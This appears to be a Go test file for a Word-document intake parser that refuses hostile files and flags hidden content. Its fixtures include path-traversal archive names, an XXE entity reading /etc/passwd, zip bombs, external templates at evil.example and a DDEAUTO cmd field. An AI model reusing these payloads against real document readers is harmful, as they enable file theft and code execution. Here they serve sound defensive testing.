package incoming_test

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"maps"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"entente/document/documenttest"
	"entente/document/docx"
	"entente/document/incoming"
)

// repacked is a file with some parts put in or replaced; a part without content is taken out.
func repacked(t testing.TB, file []byte, parts map[string]string) []byte {
	t.Helper()
	rest := maps.Clone(parts)
	var added [][2]string
	out, err := documenttest.Repacked(file, func(name, content string) string {
		if anew, ok := rest[name]; ok {
			delete(rest, name)
			return anew
		}
		return content
	})
	for name, content := range rest {
		added = append(added, [2]string{name, content})
	}
	if err == nil {
		out, err = documenttest.Repacked(out, func(_, content string) string { return content }, added...)
	}
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// within is the document's text with something put at the beginning of its body.
func within(t testing.TB, file []byte, content string) []byte {
	t.Helper()
	text := string(partOf(t, file, "word/document.xml"))
	if !strings.Contains(text, "<w:body>") {
		t.Fatal("the text has no body")
	}
	return repacked(t, file, map[string]string{"word/document.xml": strings.Replace(text, "<w:body>", "<w:body>"+content, 1)})
}

func related(t testing.TB, file []byte, relation string) []byte {
	t.Helper()
	name := "word/_rels/document.xml.rels"
	return repacked(t, file, map[string]string{name: strings.Replace(string(partOf(t, file, name)), "</Relationships>", relation+"</Relationships>", 1)})
}

// What nobody should open is refused in one line that says why.
func TestHostileDocumentsAreRefused(t *testing.T) {
	good := docxOf(t, documenttest.Sample(), []byte("source"))
	text := string(partOf(t, good, "word/document.xml"))
	many := map[string]string{}
	for i := range 1001 {
		many["word/media/"+strings.Repeat("i", i+1)] = "x"
	}
	twice := func() []byte {
		var b bytes.Buffer
		w := zip.NewWriter(&b)
		for _, name := range []string{"[Content_Types].xml", "word/document.xml", "word/DOCUMENT.xml"} {
			if _, err := w.Create(name); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}()
	for _, test := range []struct {
		name string
		file []byte
		want string
	}{
		{"no archive", []byte("%PDF-1.7"), "it is not a .docx: it cannot be unpacked"},
		{"nothing", nil, "it is not a .docx: it cannot be unpacked"},
		{"an old or locked document", []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest"), "it is protected by a password or of the old .doc kind"},
		{"half a file", good[:len(good)/2], "it is not a .docx: it cannot be unpacked"},
		{"a flipped byte", flipped(good), "the file is damaged"},
		{"another archive", repacked(t, good, map[string]string{"[Content_Types].xml": ""}), "it does not say what its parts are"},
		{"no text", repacked(t, good, map[string]string{"word/document.xml": ""}), "it has no text"},
		{"no body", repacked(t, good, map[string]string{"word/document.xml": "<document/>"}), "its text has no body"},
		{"many parts", repacked(t, good, many), "it has 1015 parts; a document has at most 1000"},
		{"a part twice", twice, `it has the part "word/DOCUMENT.xml" twice`},
		{"a bomb", repacked(t, good, map[string]string{"word/document.xml": text + strings.Repeat(" ", 20<<20)}), "unpacks to more than a document needs"},
		{"a bomb beside the text", repacked(t, good, map[string]string{"word/styles.xml": strings.Repeat(" ", 33<<20)}), "unpacks to more than a document needs"},
		{"a name that leads out", repacked(t, good, map[string]string{"../../etc/cron.d/x": "x"}), "leads out of the document"},
		{"a name from the root", repacked(t, good, map[string]string{"/etc/passwd": "x"}), "leads out of the document"},
		{"a name of Windows", repacked(t, good, map[string]string{`word\..\..\x`: "x"}), "leads out of the document"},
		{"macros", repacked(t, good, map[string]string{"word/vbaProject.bin": "x"}), "it has macros"},
		{"an entity from outside", repacked(t, good, map[string]string{"word/document.xml": strings.Replace(text, "<w:document", `<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document`, 1)}), "defines a document type"},
		{"entities of entities", repacked(t, good, map[string]string{"customXml/item1.xml": `<!DOCTYPE a [<!ENTITY a "aa">]><agreement xmlns="` + docx.SourceNamespace + `">&a;</agreement>`}), "defines a document type"},
		{"an unknown entity", within(t, good, "<w:p>&x;</w:p>"), "is not XML"},
		{"another encoding", repacked(t, good, map[string]string{"word/document.xml": strings.Replace(text, `encoding="UTF-8"`, `encoding="UTF-7"`, 1)}), "a document is in UTF-8"},
		{"broken XML", within(t, good, "<w:p>"), "is not XML"},
		{"deep nesting", within(t, good, strings.Repeat("<w:sdt>", 300)+strings.Repeat("</w:sdt>", 300)), "nests more than 256 elements deep"},
		{"a template from outside", related(t, good, `<Relationship Id="x" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`), "it uses something from outside of it"},
		{"a picture from outside", related(t, good, `<Relationship Id="x" Type="http://x/image" Target="file://///evil.example/x.png" TargetMode="External"/>`), "it uses something from outside of it"},
		{"a relation that leads out", related(t, good, `<Relationship Id="x" Type="http://x/comments" Target="../../../etc/passwd"/>`), "a relation of it leads out"},
		{"a relation to nothing", related(t, good, `<Relationship Id="x" Type="http://x/comments" Target="comments.xml"/>`), `it lacks its part "word/comments.xml"`},
		{"another document within", related(t, good, `<Relationship Id="x" Type="http://x/aFChunk" Target="chunk.html"/>`), "another document is built into it"},
		{"two agreements", repacked(t, good, map[string]string{"customXml/item2.xml": string(partOf(t, good, "customXml/item1.xml"))}), "it carries two agreement files"},
		{"a damaged agreement", repacked(t, good, map[string]string{"customXml/item1.xml": `<agreement xmlns="` + docx.SourceNamespace + `">%%%</agreement>`}), "the agreement file within it is damaged"},
		{"endless text", repacked(t, good, map[string]string{"word/document.xml": `<document><body>` + endless() + `</body></document>`}), "it has more than 4 MiB of text"},
	} {
		t.Run(test.name, func(t *testing.T) {
			began := time.Now()
			_, err := incoming.Read(test.file)
			if err == nil || !strings.Contains(err.Error(), test.want) || strings.Contains(err.Error(), "\n") || len(err.Error()) > 300 {
				t.Errorf("got %v, want %q", err, test.want)
			}
			if took := time.Since(began); took > 30*time.Second {
				t.Errorf("it took %v", took)
			}
		})
	}
}

// endless is text that cannot be packed well.
func endless() string {
	var b strings.Builder
	for n := uint64(1); b.Len() < 8<<20; n++ {
		fmt.Fprintf(&b, "<p><r><t>%d %d %d</t></r></p>", n*0x9e3779b97f4a7c15, n*0xbf58476d1ce4e5b9, n*0x94d049bb133111eb)
	}
	return b.String()
}

// flipped is a file with a byte of its text changed.
func flipped(file []byte) []byte {
	out := bytes.Clone(file)
	at := bytes.Index(out, []byte("word/document.xml")) + 200
	out[at] ^= 0xff
	return out
}

// What a text alone cannot say is told apart: pictures, notes, words that are hidden or struck out by hand,
// a box that stores something else than it shows, text boxes, words that a field computes, and a link that somebody may follow is none.
func TestWhatATextCannotSayIsTold(t *testing.T) {
	good := docxOf(t, documenttest.Sample(), nil)
	run := func(look, text string) string {
		return `<w:p><w:r><w:rPr>` + look + `</w:rPr><w:t xml:space="preserve">` + text + `</w:t></w:r></w:p>`
	}
	for _, test := range []struct{ name, given, cells, odd string }{
		{"struck out by hand", run("<w:strike/>", "gone?"), "gone?", "words struck out by hand: “gone?”"},
		{"struck out twice by hand", run("<w:dstrike/>", "gone?"), "gone?", "words struck out by hand: “gone?”"},
		{"an optional hyphen", "<w:p><w:r><w:t>in</w:t><w:softHyphen/><w:t>tent</w:t></w:r></w:p>", "in⟨U+00AD⟩tent", ""},
		{"a date of today", "<w:p><w:r><w:t>until </w:t><w:dayLong/><w:monthLong/></w:r></w:p>", "until", "a date or number that the word processor computes"},
		{"a part of another document", `<w:p><w:r><w:t>see</w:t></w:r><w:subDoc r:id="x"/></w:p>`, "see", "another document"},
		{"ink", `<w:p><w:r><w:t>see</w:t><w:contentPart r:id="x"/></w:r></w:p>`, "see", "a picture or text box"},
		{"a formula", `<w:p><w:r><w:t>pay </w:t></w:r><m:oMath><m:r><m:t>a+b</m:t></m:r></m:oMath></w:p>`, "pay a+b", "a formula"},
		{"words that run the other way", `<w:p><w:bdo w:val="rtl"><w:r><w:t>42</w:t></w:r></w:bdo></w:p>`, "42", "words whose direction is overridden"},
		{"hidden", run("<w:vanish/>", "psst"), "", "hidden words: “psst”"},
		{"not struck", run(`<w:strike w:val="0"/>`, "here"), "here", ""},
		{"a picture", `<w:p><w:r><w:t>see </w:t><w:drawing/></w:r></w:p>`, "see", "a picture or text box"},
		{"a field that computes", `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd "/k x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>thirty</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
			"thirty", "words that a field computes: DDEAUTO"},
		{"a field in one piece", `<w:p><w:fldSimple w:instr=" includetext &quot;//evil.example/x&quot; "><w:r><w:t>thirty</w:t></w:r></w:fldSimple></w:p>`, "thirty", "words that a field computes: includetext"},
		{"a field in a field", `<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> IF </w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/><w:t>x</w:t></w:r></w:p>`, "x", "words that a field computes: IF"},
		{"a field that points", `<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> REF a \h </w:instrText><w:fldChar w:fldCharType="separate"/><w:t>6.3</w:t><w:fldChar w:fldCharType="end"/></w:r></w:p>`, "6.3", ""},
		{"a box that lies", `<w:p><w:sdt><w:sdtPr><w14:checkbox><w14:checked w14:val="1"/></w14:checkbox></w:sdtPr><w:sdtContent><w:r><w:t>☐</w:t></w:r></w:sdtContent></w:sdt><w:r><w:tab/><w:t>Yes</w:t></w:r></w:p>`,
			"☐ Yes", "a tick box that shows something else than it stores"},
		{"another document between paragraphs", `<w:altChunk r:id="x"/>` + run("", "see"), "see", "another document"},
		{"words that do not", `<w:p><mc:AlternateContent><mc:Choice Requires="x"><w:r><w:t>owes 5</w:t></w:r></mc:Choice><mc:Fallback><w:r><w:t>owes </w:t></w:r><w:r><w:t>5</w:t></w:r></mc:Fallback></mc:AlternateContent></w:p>`, "owes 5", ""},
		{"words for other programs", `<w:p><w:r><w:t>A </w:t></w:r><mc:AlternateContent><mc:Choice Requires="x"><w:r><w:t>owes 5</w:t></w:r></mc:Choice><mc:Fallback><w:r><w:t>owes nothing</w:t></w:r></mc:Fallback></mc:AlternateContent></w:p>`, "A owes 5", "words that other programs show as “owes nothing”"},
		{"marks that reorder", run("", "pay \u202e001 \u202cnow"), "pay ⟨U+202E⟩001 ⟨U+202C⟩now", ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			c, err := incoming.Read(within(t, good, test.given))
			if err != nil {
				t.Fatal(err)
			}
			l := c.Lines[0]
			if got := strings.Join(l.Cells, "|"); got != test.cells || strings.Join(l.Oddities, "|") != test.odd {
				t.Errorf("got %q and %q", got, l.Oddities)
			}
		})
	}
	boxed := `<w:p><w:r><w:t>before</w:t><w:pict><w:txbxContent>` + run("", "in a box") + `</w:txbxContent></w:pict></w:r></w:p>`
	c, err := incoming.Read(within(t, good, boxed))
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{"in a box", "before"}, []string{c.Lines[0].Cells[0], c.Lines[1].Cells[0]}); diff != "" {
		t.Error(diff)
	}
	remarked := related(t, within(t, good, `<w:p/><w:p><w:commentRangeStart w:id="3"/><w:r><w:t>words</w:t></w:r><w:commentRangeEnd w:id="3"/></w:p>`), `<Relationship Id="x" Type="http://x/comments" Target="comments.xml"/>`)
	c, err = incoming.Read(repacked(t, remarked, map[string]string{"word/comments.xml": `<comments><comment id="3"><p><r><t>Why?</t></r></p></comment><comment id="4"><p><r><t>In general.</t></r></p></comment></comments>`}))
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]incoming.Comment{{Text: "Why?", On: "words"}, {Text: "In general.", Line: -1}}, c.Comments); diff != "" {
		t.Errorf("comments whose sign is lost (-want +got):\n%s", diff)
	}
	if _, err := incoming.Read(related(t, good, `<Relationship Id="x" Type="http://x/hyperlink" Target="mailto:a@b.example" TargetMode="External"/>`)); err != nil {
		t.Errorf("a link is refused: %v", err)
	}
}

// Tracked changes count as accepted, with who made them and when; comments come with their words and place.
func TestACopyTellsWhoChangedWhat(t *testing.T) {
	const who = ` w:id="900" w:author="Aoife Kearney" w:date="2026-12-02T10:00:00Z"`
	run := func(text string) string { return `<w:r><w:t xml:space="preserve">` + text + `</w:t></w:r>` }
	deleted := func(text string) string {
		return `<w:del` + who + `><w:r><w:delText xml:space="preserve">` + text + `</w:delText></w:r></w:del>`
	}
	file := within(t, docxOf(t, documenttest.Sample(), nil),
		`<w:p><w:commentRangeStart w:id="7"/>`+run("within ")+deleted("thirty")+`<w:ins`+who+`>`+run("ten")+`</w:ins><w:commentRangeEnd w:id="7"/><w:r><w:commentReference w:id="7"/></w:r>`+run(" days")+`</w:p>`+
			`<w:p><w:pPr><w:rPr><w:del`+who+`/></w:rPr></w:pPr>`+deleted("all of it")+`</w:p>`+
			`<w:p><w:pPr><w:rPr><w:del`+who+`/></w:rPr></w:pPr>`+run("joined ")+`</w:p><w:p>`+run("up")+`</w:p>`+
			`<w:tbl><w:tr><w:trPr><w:del`+who+`/></w:trPr><w:tc><w:p>`+deleted("a")+`</w:p></w:tc><w:tc><w:p>`+deleted("b")+`</w:p></w:tc></w:tr><w:tr><w:tc><w:p>`+run("c")+`</w:p><w:p>`+run("d")+`</w:p></w:tc></w:tr></w:tbl>`)
	file = related(t, file, `<Relationship Id="x" Type="http://x/comments" Target="comments.xml"/><Relationship Id="y" Type="http://x/footnotes" Target="footnotes.xml"/>`)
	const w = ` xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"`
	file = repacked(t, file, map[string]string{
		"word/comments.xml":  `<w:comments` + w + `><w:comment w:id="7" w:author="Róisín" w:date="2026-12-02T11:00:00"><w:p>` + run("Too") + `</w:p><w:p>` + run("short.") + `</w:p></w:comment></w:comments>`,
		"word/footnotes.xml": `<w:footnotes` + w + `><w:footnote w:id="1"><w:p>` + run("A note.") + `</w:p></w:footnote></w:footnotes>`,
	})
	c, err := incoming.Read(file)
	if err != nil {
		t.Fatal(err)
	}
	aoife := []docx.Author{{Name: "Aoife Kearney", At: time.Date(2026, 12, 2, 10, 0, 0, 0, time.UTC)}}
	put := func(s string) incoming.Tracked { return incoming.Tracked{By: aoife[0], Text: s} }
	took := func(s string) incoming.Tracked { return incoming.Tracked{By: aoife[0], Gone: true, Text: s} }
	want := []incoming.Line{
		{Cells: []string{"within ten days"}, By: aoife, Tracked: []incoming.Tracked{took("thirty"), put("ten")}},
		{Cells: []string{"all of it"}, By: aoife, Gone: true, Tracked: []incoming.Tracked{took("all of it")}},
		{Cells: []string{"joined up"}, By: aoife},
		{Cells: []string{"a", "b"}, Row: true, Table: 1, By: aoife, Gone: true, Tracked: []incoming.Tracked{took("a"), took("b")}},
		{Cells: []string{"c\nd"}, Row: true, Table: 1},
	}
	if diff := cmp.Diff(want, c.Lines[:len(want)]); diff != "" {
		t.Errorf("lines (-want +got):\n%s", diff)
	}
	comment := incoming.Comment{Author: docx.Author{Name: "Róisín", At: time.Date(2026, 12, 2, 11, 0, 0, 0, time.UTC)}, Text: "Too short.", On: "within ten", Line: 0}
	if diff := cmp.Diff([]incoming.Comment{comment}, c.Comments); diff != "" {
		t.Errorf("comments (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{"A note."}, c.Asides); diff != "" {
		t.Errorf("notes (-want +got):\n%s", diff)
	}
}

// Whatever the bytes are, reading ends, and says what is wrong in one line.
func FuzzRead(f *testing.F) {
	good := docxOf(f, documenttest.Sample(), []byte("source"))
	f.Add(good)
	f.Add(within(f, good, `<w:p><w:ins w:author="a" w:date="2026-12-02T10:00:00Z"><w:r><w:t>x</w:t></w:r></w:ins></w:p>`))
	f.Fuzz(func(t *testing.T, file []byte) {
		if _, err := incoming.Read(file); err != nil && strings.Contains(err.Error(), "\n") {
			t.Errorf("%q has lines", err)
		}
	})
}

// Whatever the text of a document is, reading ends; a fuzzer seldom makes an archive that unpacks.
func FuzzReadText(f *testing.F) {
	f.Add(`<document><body><tbl><tr><tc><p><r><t>a</t></r></p></tc></tr></tbl><p><pPr><rPr><del/></rPr></pPr><r><delText>x</delText></r></p></body></document>`)
	f.Add(`<document><body><tc><p/></tc><tr/><sdt><sdtPr><checkbox><checked val="1"/></checkbox></sdtPr><sdtContent><p><p/></p></sdtContent></sdt></body></document>`)
	f.Fuzz(func(t *testing.T, text string) {
		var b bytes.Buffer
		w := zip.NewWriter(&b)
		for _, part := range [][2]string{{"[Content_Types].xml", "<Types/>"}, {"_rels/.rels", `<Relationships><Relationship Type="officeDocument" Target="a.xml"/></Relationships>`}, {"a.xml", text}} {
			f, err := w.CreateHeader(&zip.FileHeader{Name: part[0]})
			if err == nil {
				_, err = io.WriteString(f, part[1])
			}
			if err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		if _, err := incoming.Read(b.Bytes()); err != nil && strings.Contains(err.Error(), "\n") {
			t.Errorf("%q has lines", err)
		}
	})
}
